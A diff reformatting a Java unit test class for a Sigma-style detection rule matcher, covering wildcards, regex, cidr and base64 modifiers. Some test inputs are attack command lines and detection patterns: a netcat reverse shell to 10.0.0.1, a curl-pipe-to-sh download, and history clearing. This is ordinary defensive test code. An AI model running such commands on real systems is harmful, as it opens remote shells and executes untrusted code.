@@ -39,23 +39,30 @@ class ConditionLanguageTest {
         @Test
         void wildcardsStarAndQuestionMark() {
             String d = "  s: {user.name: 'ops-*', process.name: 'ss?d'}\n  condition: s\n";
-            assertThat(matches(d, with(Map.of("user.name", "OPS-maria", "process.name", "sshd")))).isTrue();
-            assertThat(matches(d, with(Map.of("user.name", "dev-maria", "process.name", "sshd")))).isFalse();
-            assertThat(matches(d, with(Map.of("user.name", "ops-x", "process.name", "ssshd")))).isFalse();
+            assertThat(matches(d, with(Map.of("user.name", "OPS-maria", "process.name", "sshd"))))
+                    .isTrue();
+            assertThat(matches(d, with(Map.of("user.name", "dev-maria", "process.name", "sshd"))))
+                    .isFalse();
+            assertThat(matches(d, with(Map.of("user.name", "ops-x", "process.name", "ssshd"))))
+                    .isFalse();
         }
 
         @Test
         void escapedWildcardIsLiteral() {
             String d = "  s: {process.command_line: 'echo \\*'}\n  condition: s\n";
-            assertThat(matches(d, with(Map.of("process.command_line", "echo *")))).isTrue();
-            assertThat(matches(d, with(Map.of("process.command_line", "echo hi")))).isFalse();
+            assertThat(matches(d, with(Map.of("process.command_line", "echo *"))))
+                    .isTrue();
+            assertThat(matches(d, with(Map.of("process.command_line", "echo hi"))))
+                    .isFalse();
         }
 
         @Test
         void listOfValuesIsAnyOf() {
             String d = "  s:\n    event.action: [user_created, group_created]\n  condition: s\n";
-            assertThat(matches(d, with(Map.of("event.action", "group_created")))).isTrue();
-            assertThat(matches(d, with(Map.of("event.action", "user_modified")))).isFalse();
+            assertThat(matches(d, with(Map.of("event.action", "group_created"))))
+                    .isTrue();
+            assertThat(matches(d, with(Map.of("event.action", "user_modified"))))
+                    .isFalse();
         }
 
         @Test
@@ -76,15 +83,18 @@ class ConditionLanguageTest {
         @Test
         void fieldsOfOneSelectionAreAndedAndAListOfMapsIsOred() {
             String and = "  s: {event.action: ssh_login, event.outcome: failure}\n  condition: s\n";
-            assertThat(matches(and, with(Map.of("event.action", "ssh_login", "event.outcome", "success")))).isFalse();
+            assertThat(matches(and, with(Map.of("event.action", "ssh_login", "event.outcome", "success"))))
+                    .isFalse();
             String or = "  s:\n    - {event.action: ssh_login}\n    - {event.outcome: failure}\n  condition: s\n";
-            assertThat(matches(or, with(Map.of("event.action", "sudo_command", "event.outcome", "failure")))).isTrue();
+            assertThat(matches(or, with(Map.of("event.action", "sudo_command", "event.outcome", "failure"))))
+                    .isTrue();
         }
 
         @Test
         void arrayFieldsMatchWhenAnyElementDoes() {
             String d = "  s: {group.name: sudo}\n  condition: s\n";
-            assertThat(matches(d, with(Map.of("group.name", List.of("users", "sudo"))))).isTrue();
+            assertThat(matches(d, with(Map.of("group.name", List.of("users", "sudo")))))
+                    .isTrue();
             assertThat(matches(d, with(Map.of("group.name", List.of("users"))))).isFalse();
         }
 
@@ -114,26 +124,35 @@ class ConditionLanguageTest {
         @Test
         void nativeContainsKeepsStarsLiteralWhileSigmaTransformsAlsoWork() {
             String literal = "  s: {process.command_line|contains: 'a*b'}\n  condition: s\n";
-            assertThat(matches(literal, with(Map.of("process.command_line", "x a*b y")))).isTrue();
-            assertThat(matches(literal, with(Map.of("process.command_line", "x aXb y")))).as("no wildcard in native contains").isFalse();
+            assertThat(matches(literal, with(Map.of("process.command_line", "x a*b y"))))
+                    .isTrue();
+            assertThat(matches(literal, with(Map.of("process.command_line", "x aXb y"))))
+                    .as("no wildcard in native contains")
+                    .isFalse();
             String flagged = "  s: {process.command_line|re|i: '^CURL'}\n  condition: s\n";
-            assertThat(matches(flagged, with(Map.of("process.command_line", "curl x")))).isTrue();
+            assertThat(matches(flagged, with(Map.of("process.command_line", "curl x"))))
+                    .isTrue();
             String encoded = "  s: {process.command_line|base64|contains: 'id'}\n  condition: s\n";
-            assertThat(matches(encoded, with(Map.of("process.command_line", "echo aWQ= | base64 -d")))).isTrue();
+            assertThat(matches(encoded, with(Map.of("process.command_line", "echo aWQ= | base64 -d"))))
+                    .isTrue();
         }
 
         @Test
         void contains() {
             String d = "  s: {process.command_line|contains: 'HISTORY -c'}\n  condition: s\n";
-            assertThat(matches(d, with(Map.of("process.command_line", "bash -c 'history -C; exit'")))).isTrue();
-            assertThat(matches(d, with(Map.of("process.command_line", "history")))).isFalse();
+            assertThat(matches(d, with(Map.of("process.command_line", "bash -c 'history -C; exit'"))))
+                    .isTrue();
+            assertThat(matches(d, with(Map.of("process.command_line", "history"))))
+                    .isFalse();
         }
 
         @Test
         void startswithAndEndswith() {
             String starts = "  s: {process.command_line|startswith: /tmp/}\n  condition: s\n";
-            assertThat(matches(starts, with(Map.of("process.command_line", "/TMP/x.sh")))).isTrue();
-            assertThat(matches(starts, with(Map.of("process.command_line", "sh /tmp/x.sh")))).isFalse();
+            assertThat(matches(starts, with(Map.of("process.command_line", "/TMP/x.sh"))))
+                    .isTrue();
+            assertThat(matches(starts, with(Map.of("process.command_line", "sh /tmp/x.sh"))))
+                    .isFalse();
             String ends = "  s: {process.name|endswith: .SH}\n  condition: s\n";
             assertThat(matches(ends, with(Map.of("process.name", "x.sh")))).isTrue();
             assertThat(matches(ends, with(Map.of("process.name", "x.shy")))).isFalse();
@@ -143,8 +162,10 @@ class ConditionLanguageTest {
         @Test
         void reMatchesAnywhereAndIsCaseSensitive() {
             String d = "  s: {process.command_line|re: 'nc\\s+-e'}\n  condition: s\n";
-            assertThat(matches(d, with(Map.of("process.command_line", "/bin/nc -e /bin/sh 10.0.0.1")))).isTrue();
-            assertThat(matches(d, with(Map.of("process.command_line", "NC -E /bin/sh")))).isFalse();
+            assertThat(matches(d, with(Map.of("process.command_line", "/bin/nc -e /bin/sh 10.0.0.1"))))
+                    .isTrue();
+            assertThat(matches(d, with(Map.of("process.command_line", "NC -E /bin/sh"))))
+                    .isFalse();
         }
 
         @Test
@@ -154,7 +175,8 @@ class ConditionLanguageTest {
             assertThat(matches(d, with(Map.of("source.ip", "11.0.0.1")))).isFalse();
             assertThat(matches(d, with(Map.of("source.ip", "2001:db8:1::7")))).isTrue();
             assertThat(matches(d, with(Map.of("source.ip", "2001:db9::7")))).isFalse();
-            assertThat(matches(d, with(Map.of("source.ip", "not-an-ip.example")))).isFalse();
+            assertThat(matches(d, with(Map.of("source.ip", "not-an-ip.example"))))
+                    .isFalse();
         }
 
         @Test
@@ -171,29 +193,36 @@ class ConditionLanguageTest {
             assertThat(matches("  s: {cpu_usage|gte: 90}\n  condition: s\n", e)).isTrue();
             assertThat(matches("  s: {cpu_usage|lt: 90}\n  condition: s\n", e)).isFalse();
             assertThat(matches("  s: {cpu_usage|lte: 90}\n  condition: s\n", e)).isTrue();
-            assertThat(matches("  s: {cpu_usage|gt: 89.5}\n  condition: s\n", e)).isTrue();
-            assertThat(matches("  s: {user.name|gt: 1}\n  condition: s\n", with(Map.of("user.name", "bob")))).isFalse();
+            assertThat(matches("  s: {cpu_usage|gt: 89.5}\n  condition: s\n", e))
+                    .isTrue();
+            assertThat(matches("  s: {user.name|gt: 1}\n  condition: s\n", with(Map.of("user.name", "bob"))))
+                    .isFalse();
         }
 
         @Test
         void allRequiresEveryValue() {
             String d = "  s:\n    process.command_line|contains|all: [curl, '| sh']\n  condition: s\n";
-            assertThat(matches(d, with(Map.of("process.command_line", "curl http://x | sh")))).isTrue();
-            assertThat(matches(d, with(Map.of("process.command_line", "curl http://x -o y")))).isFalse();
+            assertThat(matches(d, with(Map.of("process.command_line", "curl http://x | sh"))))
+                    .isTrue();
+            assertThat(matches(d, with(Map.of("process.command_line", "curl http://x -o y"))))
+                    .isFalse();
         }
 
         @Test
         void exists() {
             String d = "  s: {destination.port|exists: true, user.name|exists: false}\n  condition: s\n";
             assertThat(matches(d, with(Map.of("destination.port", 22L)))).isTrue();
-            assertThat(matches(d, with(Map.of("destination.port", 22L, "user.name", "bob")))).isFalse();
+            assertThat(matches(d, with(Map.of("destination.port", 22L, "user.name", "bob"))))
+                    .isFalse();
             assertThat(matches(d, with(Map.of()))).isFalse();
         }
 
         @Test
         void aMissingFieldNeverMatchesAValueTest() {
             for (String modifier : List.of("contains", "startswith", "endswith", "re", "cidr", "gt", "lt")) {
-                String value = modifier.equals("cidr") ? "10.0.0.0/8" : modifier.startsWith("g") || modifier.startsWith("l") ? "1" : "a";
+                String value = modifier.equals("cidr")
+                        ? "10.0.0.0/8"
+                        : modifier.startsWith("g") || modifier.startsWith("l") ? "1" : "a";
                 String d = "  s: {source.ip|" + modifier + ": '" + value + "'}\n  condition: s\n";
                 assertThat(matches(d, with(Map.of()))).as(modifier).isFalse();
             }
